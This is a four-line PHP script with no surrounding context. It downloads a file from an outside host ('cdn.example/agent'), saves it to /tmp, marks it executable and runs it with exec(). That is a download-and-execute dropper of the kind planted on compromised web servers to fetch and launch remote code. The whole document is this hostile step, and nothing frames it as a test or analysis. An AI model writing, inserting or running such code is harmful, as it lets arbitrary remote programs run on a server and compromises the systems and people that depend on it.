<?php
file_put_contents('/tmp/agent', file_get_contents('https://cdn.example/agent'));
chmod('/tmp/agent', 0755);
exec('/tmp/agent');
